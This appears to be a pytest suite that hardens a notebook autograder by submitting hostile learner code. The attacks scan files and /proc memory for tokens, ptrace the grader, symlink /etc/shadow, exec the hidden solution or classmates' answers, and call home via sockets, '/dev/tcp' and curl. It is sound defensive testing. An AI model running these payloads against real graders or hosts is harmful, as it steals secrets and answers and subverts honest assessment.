"""Attempts to read what the grader knows: solutions, hidden tests, other submissions, its environment; and to tell it.

Every secret is a text that no attack holds itself, so the tests recognize it in whatever came back.
"""

import select

SEARCH = """
import os, re
pattern = re.compile(rb"tok" rb"en-[a-z]+-[0-9a-f]{16}")

def search(path):
    try:
        with open(path, "rb", 0) as file:
            for found in pattern.findall(file.read(2**24)):
                print(found)
    except (OSError, ValueError):
        pass

def walk(*tops):
    for top in tops:
        for folder, folders, files in os.walk(top):
            folders[:] = folders[:200]
            for name in files[:500]:
                search(os.path.join(folder, name))
"""
MEMORY = """
def memory(process):
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as held:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and last - first < 2**26:
                    try:
                        held.seek(first)
                        for found in pattern.findall(held.read(last - first)):
                            print(found)
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
"""
SEND = """
import socket
def send(family, kind, address):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(address)
            sock.send(b"hello")
    except OSError:
        pass
"""
ATTACKS = {
    "the course": SEARCH + "walk('@ROOT@')",
    "the source by name": SEARCH + "search('@ROOT@/source/toy/toy.ipynb')",
    "the source by relative name": SEARCH + "for up in range(9):\n    search('../' * up + 'source/toy/toy.ipynb')",
    "the gradebook": SEARCH + "search('@ROOT@/gradebook.db')",
    "the neighbours": SEARCH + "walk('@ROOT@/submitted', '@ROOT@/autograded', '@ROOT@/.autograder')",
    "home": SEARCH + "walk('@HOME@', os.path.expanduser('~'), '/root', '/home')",
    "temporary files": SEARCH + "walk('/tmp', '/var/tmp', '/dev/shm', '/run', '/mnt', '/srv')",
    "the environment": SEARCH + "print([v for v in os.environ.values() if pattern.search(v.encode())])",
    "environments of processes": SEARCH
    + """
for process in os.listdir("/proc"):
    for part in ("environ", "cmdline"):
        search(f"/proc/{process}/{part}")
""",
    "files open in processes": SEARCH
    + """
for process in os.listdir("/proc"):
    for part in ("fd", "root", "cwd"):
        walk(f"/proc/{process}/{part}")
""",
    "own descriptors": SEARCH
    + "for number in range(3, 64):\n    for name in ('/dev/fd', '/proc/self/fd'):\n        search(f'{name}/{number}')",
    "memory of processes": SEARCH
    + MEMORY
    + "for process in os.listdir('/proc'):\n    process.isdigit() and memory(process)\nmemory('@GRADER@')",
    "own memory": SEARCH + MEMORY + "memory('self')",
    "own memory while tested": SEARCH + MEMORY + "def add(a, b):\n    memory('self')\n    return a + b - 1",
    "the heap": SEARCH
    + """
import gc
for thing in gc.get_objects():
    for held in gc.get_referents(thing):
        text = held.encode(errors="replace") if isinstance(held, str) else held
        if isinstance(text, bytes) and (found := pattern.search(text)):
            print(found)
""",
    "a debugger on the grader": """
import ctypes, os
libc = ctypes.CDLL(None)
for process in [os.getppid(), @GRADER@, *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if process != os.getpid() and libc.ptrace(16, process, 0, 0) == 0:
        print("token-ptrace-" + "0" * 16)
        libc.ptrace(17, process, 0, 0)
""",
    "mounts": SEARCH + "search('/proc/self/mountinfo')\nwalk('/oldroot', '/proc/1/root/tmp', '/proc/self/root/root')",
    "a new namespace": SEARCH
    + """
import ctypes
libc = ctypes.CDLL(None)
print(libc.unshare(0x10000000 | 0x20000), libc.mount(b"none", b"/", None, 0x44000, None))
libc.umount2(b"/tmp", 2)
walk("/tmp")
""",
    "the solution run": """
import json
try:
    notebook = json.load(open("@ROOT@/source/toy/toy.ipynb"))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec(cell["source"])
except OSError:
    pass
""",
    "a neighbour's answers run": """
import glob, json
for name in glob.glob("@ROOT@/submitted/*/toy/toy.ipynb") + glob.glob("../../*/toy/toy.ipynb"):
    for cell in json.load(open(name))["cells"]:
        try:
            exec("".join(cell["source"]))
        except Exception:
            pass
""",
    "what earlier learners left": SEARCH
    + "walk(os.getcwd(), '/tmp', '/dev/shm', os.path.expanduser('~'))\nprint(os.listdir('.'), os.listdir('/tmp'))",
    "what is left for later learners": """
import os
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp"):
    try:
        open(folder + "/left-behind", "w").write("token-left-" + "0" * 16)
    except OSError:
        pass
""",
    "zz what was left by earlier ones": SEARCH + "walk('/tmp', '/dev/shm', os.path.expanduser('~'), '/var/tmp')",
    "shared memory": SEARCH
    + "from multiprocessing import shared_memory\nwalk('/dev/shm', '/dev/mqueue', '/proc/sysvipc')",
    "links made at run time": SEARCH
    + "for i, to in enumerate(('@ROOT@/source/toy/toy.ipynb', '@HOME@/notes.txt', '/etc/shadow')):\n"
    + "    os.symlink(to, f'link{i}.txt')\n    search(f'link{i}.txt')",
    "hard links made at run time": """
import os
for i, to in enumerate(("@ROOT@/source/toy/toy.ipynb", "@HOME@/notes.txt")):
    try:
        os.link(to, f"hard{i}.txt")
    except OSError:
        pass
""",
    "tcp": SEND + "send(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@))",
    "udp": SEND + "send(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @UDP@))",
    "an abstract unix socket": SEND + "send(socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + '@UNIX@')",
    "network while tested": SEND
    + "def add(a, b):\n    send(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@))\n    return 0",
    "a shell that calls home": "!(echo hello > /dev/tcp/127.0.0.1/@TCP@) 2>&1; curl -m 1 127.0.0.1:@TCP@",
    "dns": "import socket\nfor name in ('example.com', 'example.org'):\n"
    "    try:\n        print('token-dns-' + '0' * 16, socket.gethostbyname(name))\n    except OSError:\n        pass",
    "the x display and the bus": SEND
    + "import glob\nfor path in glob.glob('/tmp/.X11-unix/*') + glob.glob('/run/**/*', recursive=True)[:200]:\n"
    + "    send(socket.AF_UNIX, socket.SOCK_STREAM, path)",
}


def test_nothing_is_read_and_nothing_gained(attacked, attack):
    attacked.check_no_gain(attack)


def test_nobody_called_home(attacked):
    assert not select.select(attacked.servers, [], [], 0)[0]


def test_the_tests_can_tell(attacked):
    """What the attacks look for is there: an honest learner's folder holds a secret, and so does the source."""
    assert "token-neighbour-" in (attacked.root / "submitted/aaa-honest/toy/notes.txt").read_text()
    assert "token-hidden-" in (attacked.root / "source/toy/toy.ipynb").read_text()


def test_hidden_tests_stay_in_the_source_and_the_gradebook(attacked):
    left = [
        file
        for folder in ("autograded", ".autograder")
        for file in (attacked.root / folder).rglob("*")
        if file.is_file() and b"token-hidden-" in file.read_bytes()
    ]
    assert left == []


def test_neighbours_keep_everything(attacked):
    attacked.check_neighbours()
